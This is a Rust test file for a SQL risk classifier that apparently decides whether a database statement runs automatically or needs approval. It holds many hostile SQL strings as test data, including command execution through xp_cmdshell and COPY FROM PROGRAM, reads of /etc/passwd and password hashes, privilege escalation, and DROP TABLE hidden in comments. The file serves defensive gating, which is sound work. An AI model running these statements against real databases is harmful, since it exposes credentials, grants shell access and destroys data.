use proptest::prelude::*;

use super::table::Table;
use super::*;
use crate::model::Level;
use crate::weigh::weigh;

fn level(dialect: &str, text: &str) -> Level {
    let context = Context::default();
    weigh(&statements(dialect, text, "", &context), &context).0
}

fn check(asked: bool, rows: &[&str]) {
    for text in rows {
        let found = statements("", text, "", &Context::default());
        assert_eq!(level("", text) > Level::Low, asked, "{text}\n{found:#?}");
    }
}

#[test]
fn the_shipped_table_parses() {
    assert!(Table::parse().expect("data/sql.toml").function("xp_cmdshell").is_some());
}

#[test]
fn what_is_known_of_dialects_counts() {
    check(
        true,
        &[
            "INSERT INTO FUNCTION url('https://a.example/x', 'CSV', 'a String') SELECT a FROM t",
            "INSERT INTO TABLE FUNCTION remote('10.0.0.1', db.t) SELECT * FROM t",
            "PREPARE p AS DELETE FROM t; EXECUTE p",
            "EXECUTE p",
            "UPDATE t SET a = 1 WHERE day >= '2020-01-01'",
            "UPDATE t SET a = 1 WHERE day > DATE '2020-01-01'",
            "EXPLAIN PLAN FOR SELECT 1; DROP TABLE t",
            "SET foreign_key_checks = 0",
            "EXEC sp_configure 'x', 1",
        ],
    );
    check(
        false,
        &[
            "PREPARE p AS SELECT 1; EXECUTE p",
            "UPDATE t SET a = 1 WHERE day >= '2020-01-01' AND id = 3",
            "EXPLAIN PLAN FOR DELETE FROM t",
            "SET foreign_key_checks = 1",
            "SET default_transaction_read_only = on",
            "PRAGMA foreign_keys = ON",
            "EXEC sp_help 't'",
            "VACUUM (ANALYZE) t",
        ],
    );
}

#[test]
fn dropping_and_emptying_is_asked() {
    check(
        true,
        &[
            "DROP SCHEMA app CASCADE",
            "DROP VIEW report",
            "TRUNCATE TABLE logs",
            "ALTER TABLE a RENAME TO b",
            "ALTER TABLE a ALTER COLUMN b TYPE int",
            "ALTER TABLE a DISABLE ROW LEVEL SECURITY",
            "DROP TABLE a, b",
            "DROP FUNCTION f(int)",
            "CREATE OR REPLACE TABLE t (a int)",
        ],
    );
}

#[test]
fn rows_without_a_real_condition_are_asked() {
    check(
        true,
        &[
            "DELETE FROM orders",
            "DELETE FROM orders WHERE 1 = 1",
            "DELETE FROM orders WHERE 2 > 1 OR id = 4",
            "DELETE FROM orders WHERE id = id",
            "DELETE FROM orders WHERE id > 0",
            "DELETE FROM orders WHERE id IS NOT NULL",
            "DELETE FROM orders WHERE name LIKE '%'",
            "DELETE FROM orders WHERE NOT false",
            "DELETE FROM orders WHERE 'a' = 'a'",
            "DELETE FROM orders WHERE 1 IN (1, 2)",
            "DELETE FROM orders WHERE (((TRUE)))",
            "UPDATE orders SET paid = true",
            "UPDATE orders SET paid = true WHERE 1",
            "UPDATE orders SET paid = true WHERE 1+1=2",
            "WITH d AS (UPDATE orders SET a = 1 RETURNING *) SELECT * FROM d",
            "DELETE FROM sessions",
            "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE",
        ],
    );
}

#[test]
fn rights_and_secrets_are_asked() {
    check(
        true,
        &[
            "GRANT SELECT ON t TO bob",
            "REVOKE ALL ON t FROM bob",
            "ALTER ROLE bob SUPERUSER",
            "CREATE USER eve PASSWORD 'x'",
            "DROP ROLE bob",
            "SET ROLE postgres",
            "SET session_replication_role = 'replica'",
            "UPDATE users SET is_admin = true WHERE id = 3",
            "UPDATE users SET password_hash = 'x' WHERE id = 3",
            "SELECT usename, passwd FROM pg_shadow",
            "SELECT email, password_hash FROM users LIMIT 5",
            "SELECT User, authentication_string FROM mysql.user",
            "INSERT INTO mysql.user (User) VALUES ('x')",
            "CREATE EXTENSION plpython3u",
            "INSERT INTO users (name, is_admin) VALUES ('eve', true)",
        ],
    );
}

#[test]
fn reaching_beyond_the_data_is_asked() {
    check(
        true,
        &[
            "COPY t FROM PROGRAM 'id'",
            "COPY t TO '/var/www/x.php'",
            "COPY t FROM '/etc/passwd'",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT load_file('/etc/passwd')",
            "EXEC xp_cmdshell 'whoami'",
            "SELECT load_extension('evil')",
            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
            "SELECT pg_terminate_backend(12)",
            "SELECT 1 INTO OUTFILE '/tmp/x'",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "ATTACH DATABASE '/home/agent/other.db' AS o",
            "CALL drop_everything()",
            "SELECT delete_customer(4)",
            "PRAGMA writable_schema = 1",
            "\\copy t from program 'id'\nSELECT 1",
            "\\o |cat\nSELECT 1",
            "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'x.so'",
        ],
    );
}

#[test]
fn comments_and_many_statements_hide_nothing() {
    check(
        true,
        &[
            "SELECT 1 /* x */; /* y */ DELETE /**/ FROM t",
            "/*!50000 DROP TABLE t */",
            "SELECT 1;;;TRUNCATE t",
            "sElEcT 1; dRoP/**/tAbLe t",
            "EXPLAIN (ANALYZE) DELETE FROM t",
            "PREPARE p AS DELETE FROM t",
            "SELECT 1\nGO\nDROP TABLE t",
            "this is no statement",
            "SELECT 'a\\'; DROP TABLE t; -- '",
            "BEGIN; DROP TABLE t; COMMIT",
        ],
    );
}

#[test]
fn reading_and_small_changes_are_not_asked() {
    check(
        false,
        &[
            "SELECT 1",
            "",
            "-- only a comment",
            "SELECT a, b FROM t WHERE c = 'GRANT ALL' ORDER BY d",
            "WITH x AS (SELECT 1) SELECT * FROM x",
            "EXPLAIN TRUNCATE t",
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "EXPLAIN ANALYZE SELECT * FROM t",
            "INSERT INTO t (a) VALUES (1), (2)",
            "INSERT INTO t SELECT * FROM s",
            "UPDATE t SET a = 2 WHERE id = 7",
            "CREATE TABLE t (id int)",
            "CREATE TEMP TABLE x (a int); INSERT INTO x VALUES (1); DROP TABLE x",
            "ALTER TABLE t ADD COLUMN c text",
            "CREATE UNIQUE INDEX i ON t (c)",
            "CREATE VIEW v AS SELECT 1",
            "SHOW TABLES",
            "BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
            "PRAGMA table_info(t)",
            "\\dt\nSELECT 1",
            ".tables",
            "SELECT count(password_hash) FROM users",
            "DELETE FROM cache_entries WHERE expires_at < now()",
            "CREATE EXTENSION IF NOT EXISTS pg_trgm",
            "SELECT \"drop\" FROM \"truncate\"",
            "ANALYZE t",
            "VACUUM t",
            "COPY t TO STDOUT",
            "SELECT * FROM users WHERE password_reset_at IS NULL",
            "SET search_path = app",
        ],
    );
}

#[test]
fn a_declared_dialect_is_read_too() {
    assert!(level("mysql", "DELETE FROM `t` LIMIT 5") > Level::Low);
    assert!(level("mysql", "SELECT `a` FROM `t`") == Level::Low);
    assert!(level("mssql", "SELECT TOP 5 [a] FROM [t]") == Level::Low);
    assert!(level("bigquery", "SELECT a FROM `p.d.t`") == Level::Low);
}

#[test]
fn production_counts_more() {
    let context = Context { environment: Some(crate::model::Environment::Production), ..Context::default() };
    let found = statements("", "INSERT INTO t (a) VALUES (1)", "", &context);
    assert!(weigh(&found, &context).0 > Level::Low);
}

#[test]
fn findings_lie_where_their_statement_does() {
    let text = "SELECT 1;\nDELETE FROM orders;";
    let found = statements("", text, "", &Context::default());
    let effect = found.effects.iter().find(|effect| effect.rule == "sql.delete.all").expect("an effect");
    assert!(effect.span.start >= 9 && effect.span.end <= text.len(), "{:?}", effect.span);
}

#[test]
fn depth_is_limited() {
    let text = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    assert!(level("", &text) > Level::Low);
    for text in [format!("SELECT {}1", "1+".repeat(30_000)), "SELECT 1;".repeat(6_000)] {
        assert!(level("", &text) > Level::Low);
    }
    let deep = Context { depth: DEPTH_MAX + 1, ..Context::default() };
    assert!(!statements("", "SELECT 1", "", &deep).unresolved.is_empty());
}

proptest! {
    #[test]
    fn any_text_has_an_answer(text in ".{0,300}", dialect in "(|mysql|postgres|sqlite|mssql)") {
        let _ = statements(&dialect, &text, "", &Context::default());
    }

    #[test]
    fn any_words_have_an_answer(words in proptest::collection::vec("(SELECT|DELETE|FROM|WHERE|t|=|1|;|\\(|\\)|'|/\\*|\\*/|--|DROP|TABLE|OR|SET|UPDATE)", 0..40)) {
        let _ = statements("", &words.join(" "), "", &Context::default());
    }
}

#[test]
fn what_one_dialect_takes_for_a_comment_runs_in_another() {
    for text in [
        "SELECT 1--1; DROP TABLE users",
        "SELECT '\\'; DROP TABLE users; -- '",
        "CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM users; END $$ LANGUAGE plpgsql; SELECT f();",
    ] {
        let context = Context::default();
        let found = statements("", text, "", &context);
        assert_eq!(weigh(&found, &context).1, crate::model::Verdict::Ask, "{text}");
    }
    for text in [
        "SELECT 1 -- DROP TABLE users",
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql; SELECT f();",
        "VACUUM ANALYZE orders",
    ] {
        let context = Context::default();
        let found = statements("", text, "", &context);
        assert_eq!(weigh(&found, &context).1, crate::model::Verdict::Auto, "{text}");
    }
}
